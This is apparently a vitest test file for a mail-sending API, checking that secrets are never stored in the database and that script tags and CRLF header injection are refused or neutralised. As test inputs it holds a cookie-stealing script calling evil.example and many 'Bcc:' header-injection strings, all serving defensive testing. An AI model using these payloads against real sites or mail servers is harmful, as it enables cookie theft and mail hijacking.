import { randomBytes } from "node:crypto";
import type { NewMail } from "@daybook/contract";
import { apiKey, type TestApp, testApp } from "@daybook/testkit";
import PostalMime from "postal-mime";
import { afterAll, beforeAll, expect, test } from "vitest";
import { tellRound } from "../tasks/teller.ts";
import { tellMails } from "./mail-teller.ts";
import { readOutbox } from "./outbox.ts";

let server: TestApp;
let headers: Record<string, string>;
beforeAll(async () => {
  server = await testApp({ config: { mailFrom: "panel@host.example" } });
  ({ headers } = await apiKey(server.deps));
});
afterAll(() => server.close());

/** A text that is nowhere else. */
const secret = () => `Zk3v${randomBytes(9).toString("hex")}Qx`;

async function post(mail: NewMail): Promise<{ id: string }> {
  const reply = await server.app.inject({ method: "POST", url: "/api/v1/mail/messages", headers, payload: mail });
  expect(reply.statusCode, reply.body).toBeLessThan(300);
  return reply.json();
}

/** Tables of every schema in which a text stands, as it is or as hex or base64. */
async function tablesWith(text: string): Promise<string[]> {
  const { ownerDb } = server.deps;
  const { rows } = await ownerDb.query<{ name: string }>(
    `select format('%I.%I', schemaname, tablename) as name from pg_tables where schemaname not in ('pg_catalog', 'information_schema')`,
  );
  const bytes = Buffer.from(text);
  const forms = [text, bytes.toString("hex"), bytes.toString("base64").slice(2, -4)];
  const found: string[] = [];
  for (const { name } of rows) {
    const like = forms.map((form) => `%${form}%`);
    const hit = await ownerDb.query(`select from ${name} as stored where stored::text ilike any($1) limit 1`, [like]);
    if (hit.rowCount !== 0) found.push(name);
  }
  return found;
}

/** What is sent, as its reader gets it. */
async function sent(id: string): Promise<string> {
  const bytes = await readOutbox(server.deps.db, server.deps.vault, server.workspaceId, id);
  const mail = await PostalMime.parse(bytes ?? "");
  return `${mail.subject} ${mail.html ?? ""} ${mail.text ?? ""} ${JSON.stringify(mail.headers)}`;
}

const base = { to: { address: "dana@acme.example", name: "Dana" }, subject: "Hello" } as const;

const mails: [string, (text: string) => NewMail][] = [
  ["named by its caller", (text) => ({ ...base, html: `<p>Say ${text}</p>`, text: `Say ${text}`, secrets: [text] })],
  [
    "named by its caller, in every other part",
    (text) => ({
      to: { address: "dana@acme.example", name: `Dana ${text}` },
      from: { address: "panel@host.example", name: text },
      subject: `About ${text}`,
      text: "Nothing",
      headers: { "X-Token": text },
      user: { id: "42", name: text },
      targets: [{ type: "server", id: "srv-1", name: text }],
      project: text,
      key: `key of ${text}`,
      attachments: [{ filename: `${text}.txt`, content: "aGk=" }],
      secrets: [text],
    }),
  ],
  [
    "in a link that resets",
    (text) => ({ ...base, html: `<a href="https://host.example/reset?a=1&amp;token=${text}">x</a>` }),
  ],
  ["in a link that verifies", (text) => ({ ...base, text: `https://host.example/email/verify/7/${text}?expires=1` })],
  ["after the word password", (text) => ({ ...base, html: `<td>Password:</td><td>${text}</td>` })],
  [
    "marked by its template",
    (text) => ({
      to: "dana@acme.example",
      template: "password-reset",
      data: { user: { name: "Dana" }, resetUrl: `https://host.example/x/${text}` },
    }),
  ],
  [
    "of an external mail",
    (text) => ({
      ...base,
      delivery: "external",
      html: `<p>Say ${text}</p>`,
      data: { deep: [{ of: text }] },
      answer: `250 queued as ${text}`,
      messageId: `<${text}@host.example>`,
      secrets: [text],
    }),
  ],
];

test.each(mails)("a secret %s is nowhere in the database once the mail is taken and told of", async (_, mail) => {
  const text = secret();
  const given = mail(text);
  const { id } = await post(given);
  await tellRound(server.deps);
  await tellMails(server.deps);
  expect(await tablesWith(text)).toEqual([]);
  if (given.delivery !== "external" && given.project === undefined) expect(await sent(id)).toContain(text);
});

test("the look through all tables finds what is kept", async () => {
  const text = secret();
  await post({ ...base, text: `This is ${text}, and no secret.` });
  expect(await tablesWith(text)).toEqual(["public.mail_content_default", "public.mail_content"]);
});

test("what lies under a secret name in the data is masked in the text too", async () => {
  const text = secret();
  await server.deps.db.query(
    `insert into mail_template (workspace_id, name, settings, updated_at) values ($1, 'made', $2, now())`,
    [
      server.workspaceId,
      JSON.stringify({ title: "Made", kind: "template", tokens: [], layout: false, unsubscribe: false }),
    ],
  );
  await server.deps.db.query(
    `insert into mail_template_version (workspace_id, name, locale, version, subject, html, at, current)
       values ($1, 'made', 'en', 1, 'Made', '<p>Log in with {{ server.rootPassword }}</p>', now(), true)`,
    [server.workspaceId],
  );
  const data = { server: { name: "mc-01", rootPassword: text } };
  const { id } = await post({ to: "dana@acme.example", template: "made", data });
  expect(await sent(id)).toContain(text);
  expect(await tablesWith(text)).toEqual([]);
});

test("a script in a mail is kept as it was, and leaves the server as data alone", async () => {
  const html = `<p>Hi</p><script>fetch("https://evil.example/?c=" + document.cookie)</script><img src=x onerror="alert(1)">`;
  const { id } = await post({ ...base, html });
  const { rows } = await server.deps.db.query("select html from mail_content where message_id = $1", [id]);
  expect(rows).toEqual([{ html }]);
  const list = await server.app.inject({ method: "GET", url: `/api/v1/mail/messages/${id}`, headers });
  expect(list.body).not.toContain("<script>");
  expect(list.headers).toMatchObject({
    "content-type": expect.stringContaining("application/json"),
    "x-content-type-options": "nosniff",
  });
});

const inject = "x\r\nBcc: victim@acme.example";
const bare = { ...base, text: "Hello" };

test.each([
  ["the recipient", { ...bare, to: `dana@acme.example\r\nBcc: victim@acme.example` }],
  ["the recipient's name", { ...bare, to: { address: "dana@acme.example", name: inject } }],
  ["a second recipient", { ...bare, to: "dana@acme.example, victim@acme.example" }],
  ["a recipient in brackets", { ...bare, to: "<dana@acme.example>" }],
  ["the sender", { ...bare, from: `panel@host.example\nBcc: victim@acme.example` }],
  ["the sender's name", { ...bare, from: { address: "panel@host.example", name: inject } }],
  ["where answers go", { ...bare, replyTo: { address: "a@host.example", name: inject } }],
  ["the subject", { ...bare, subject: inject }],
  ["a header's value", { ...bare, headers: { "X-Campaign": inject } }],
  ["a header's name", { ...bare, headers: { "X-A: b\r\nBcc": "victim@acme.example" } }],
  ["a header that is not for callers", { ...bare, headers: { Bcc: "victim@acme.example" } }],
  ["a file's name", { ...bare, attachments: [{ filename: inject, content: "aGk=" }] }],
  [
    "a file's type",
    { ...bare, attachments: [{ filename: "a", contentType: `text/plain\r\n${inject}`, content: "aGk=" }] },
  ],
  ["a file's id", { ...bare, attachments: [{ filename: "a", contentId: `a>\r\n${inject}`, content: "aGk=" }] }],
  ["where to unsubscribe", { ...bare, unsubscribeUrl: `https://host.example/\r\nBcc: victim@acme.example` }],
])("a header in %s is refused, or goes out as the text that it is", async (_, mail) => {
  const reply = await server.app.inject({ method: "POST", url: "/api/v1/mail/messages", headers, payload: mail });
  if (reply.statusCode === 400) {
    const [field] = Object.keys(mail).filter((name) => !(name in bare) || mail[name as "to"] !== bare[name as "to"]);
    expect(reply.json().errors[0].pointer).toMatch(new RegExp(`^/?${field}`));
    return;
  }
  expect(reply.statusCode, reply.body).toBe(202);
  const bytes = await readOutbox(server.deps.db, server.deps.vault, server.workspaceId, reply.json().id);
  const parsed = await PostalMime.parse(bytes ?? "");
  expect(parsed.bcc ?? []).toEqual([]);
  expect(parsed.to?.map(({ address }) => address)).toEqual(["dana@acme.example"]);
});

test("data with markup and line breaks stays data: no header, no tag", async () => {
  const name = "Dana\r\nBcc: victim@acme.example <script>alert(1)</script> {{ user.password }}";
  const { id } = await post({
    to: "dana@acme.example",
    template: "welcome",
    data: { user: { name }, panelUrl: "https://host.example" },
  });
  const bytes = await readOutbox(server.deps.db, server.deps.vault, server.workspaceId, id);
  const mail = await PostalMime.parse(bytes ?? "");
  expect(mail.headers.some(({ key }) => key === "bcc")).toBe(false);
  expect(mail.html).not.toContain("<script>alert");
});
